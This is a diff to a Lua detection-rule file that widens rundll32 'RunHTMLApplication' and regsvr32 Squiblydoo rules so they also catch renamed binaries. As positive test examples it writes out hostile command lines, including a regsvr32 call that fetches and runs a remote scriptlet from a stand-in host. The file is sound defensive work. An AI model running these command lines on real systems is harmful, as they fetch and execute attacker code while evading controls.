@@ -102,7 +102,12 @@ rules.define {
   description = "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\" executes script without a file.",
   technique = { "T1218.011" },
   falsepositives = { "None known" },
-  match = function(p) return p.name == "rundll32.exe" and cl(p):find("javascript:") ~= nil end,
+  match = function(p)
+    -- a renamed copy (copy rundll32.exe %TEMP%\out.exe) still needs mshtml's RunHTMLApplication
+    local c = cl(p)
+    return (p.name == "rundll32.exe" and c:find("javascript:") ~= nil)
+      or (c:find("javascript:", 1, true) ~= nil and c:find("runhtmlapplication", 1, true) ~= nil)
+  end,
   examples = {
     positive = { { image = [[C:\Windows\System32\rundll32.exe]],
                    command_line = [[rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell")]] } },
@@ -119,13 +124,16 @@ rules.define {
   falsepositives = { "None known" },
   match = function(p)
     local c = cl(p)
-    return p.name == "regsvr32.exe" and (c:find("scrobj") or (c:find("/i:") and c:find(url))) ~= nil
+    -- "/i:URL" with /s or /u is Squiblydoo's shape even on a renamed regsvr32
+    return (p.name == "regsvr32.exe" and (c:find("scrobj") or (c:find("/i:") and c:find(url))) ~= nil)
+      or (c:find("/i:https?://") ~= nil and (c:find("%s/s%f[%s]") or c:find("%s/u%f[%s]")) ~= nil)
   end,
   examples = {
     positive = { { image = [[C:\Windows\System32\regsvr32.exe]],
                    command_line = [[regsvr32 /s /n /u /i:http://x.test/file.sct scrobj.dll]] } },
     negative = { { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /s C:\apps\ctl.dll]] },
-                 { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /u vbscript.dll]] } },
+                 { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /u vbscript.dll]] },
+                 { image = [[C:\Tools\setup.exe]], command_line = [[setup.exe /i:https://x.test/a.msi]] } },
   },
 }
 
